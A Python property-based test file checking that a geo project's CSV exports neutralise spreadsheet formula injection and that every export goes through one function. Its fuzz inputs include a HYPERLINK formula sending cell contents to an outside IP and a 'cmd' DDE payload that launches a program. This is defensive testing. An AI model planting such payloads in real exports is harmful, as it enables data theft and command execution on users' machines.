"""Exports are data: no text cell of a CSV export starts a formula, and every export goes through one function."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from geo.exports import FORMULA_STARTS, csv_bytes, neutralise
from tests.conftest import ROOT

CELL = st.one_of(
    st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS),
              st.sampled_from(["HYPERLINK(\"http://198.51.100.7/?\"&A1,\"x\")", "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)",
                               "", "5", "@A1", "\t=1"])),
    st.text(max_size=20),
    st.integers(-10**6, 10**6),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(CELL, CELL, CELL), min_size=1, max_size=12), st.sampled_from(["name", "=cmd", "+x", "@h"]))
def test_no_text_cell_of_a_csv_export_starts_a_formula(rows: list[tuple[object, ...]], header: str) -> None:
    table = pd.DataFrame(rows, columns=[header, "b", "c"])
    parsed = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8"), newline="")))
    texts = [(value, shown) for row, out in zip(table.itertuples(index=False), parsed[1:], strict=True)
             for value, shown in zip(row, out, strict=True) if isinstance(value, str)]
    assert not parsed[0][0].startswith(FORMULA_STARTS)
    for value, shown in texts:
        assert not shown.startswith(FORMULA_STARTS)
        assert shown == (("'" + value) if value.startswith(FORMULA_STARTS) else value)  # the text itself, kept
    numbers = [(value, shown) for row, out in zip(table.itertuples(index=False), parsed[1:], strict=True)
               for value, shown in zip(row, out, strict=True) if isinstance(value, int)]
    assert all(int(shown) == value for value, shown in numbers)  # a negative count stays a number


def test_neutralise_leaves_everything_but_formula_text_alone() -> None:
    assert [neutralise(v) for v in ("=1", "-2", "ok", -2, None, "a=b")] == ["'=1", "'-2", "ok", -2, None, "a=b"]


def test_every_csv_export_goes_through_csv_bytes() -> None:
    """No module writes CSV itself: audit log, briefing sections, hexagons (and any later export) use geo.exports."""
    writers = []
    for path in [*(ROOT / "geo").rglob("*.py"), *(ROOT / "dashboard").rglob("*.py"), *(ROOT / "layers").rglob("*.py")]:
        if path.name == "exports.py":
            continue
        if re.search(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(", path.read_text(encoding="utf-8")):
            writers.append(str(path.relative_to(ROOT)))
    assert writers == []
